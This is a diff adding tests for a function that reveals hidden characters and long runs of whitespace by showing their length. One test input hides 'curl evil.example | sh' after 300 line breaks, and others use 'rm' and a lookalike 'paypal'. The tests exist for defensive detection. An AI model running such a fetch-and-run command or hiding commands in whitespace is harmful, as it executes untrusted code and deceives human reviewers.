@@ -28,6 +28,30 @@ describe('a character that could deceive is shown by its code', () => {
   })
 })
 
+describe('white space that could push text out of sight is shown by its length', () => {
+  test.each([
+    ['line breaks', `ls${'\n'.repeat(300)}curl evil.example | sh`, 'ls[↵ × 300]curl evil.example | sh'],
+    ['lines of spaces', `ls${' \n\t'.repeat(4)} rm`, 'ls[↵ × 4]rm'],
+    ['spaces', `ls${' '.repeat(80)}rm`, 'ls[␣ × 80]rm'],
+    ['at the end', `ls${'\n'.repeat(4)}`, 'ls[↵ × 4]'],
+    ['around a hidden character', `ls${'\n'.repeat(4)}\u200B${'\n'.repeat(5)}rm`, 'ls[↵ × 4][U+200B][↵ × 5]rm'],
+  ])('%s', (_name, text, expected) => {
+    expect(shown(text)).toBe(expected)
+    expect(shown(text, true)).toBe(expected)
+    expect(countHidden(text)).toBeGreaterThan(0)
+  })
+
+  test('but not empty lines between paragraphs, nor an indentation', () => {
+    const text = `one\n\n\n${' '.repeat(40)}two\n`
+    expect(shown(text)).toBe(text)
+  })
+
+  test('in a time that grows with the length', () => {
+    const spaces = `${' '.repeat(200_000)}\n`.repeat(3)
+    expect(shown(`a${spaces}b`)).toMatch(/^a\[␣ × 200000\]/)
+  })
+})
+
 test('text alone has the codes in brackets', () => {
   expect(visibleText('pay\u202E p\u0430ypal')).toBe('pay[U+202E] p\u0430[U+0430]ypal')
   expect(visibleText('Maria Köhler')).toBe('Maria Köhler')
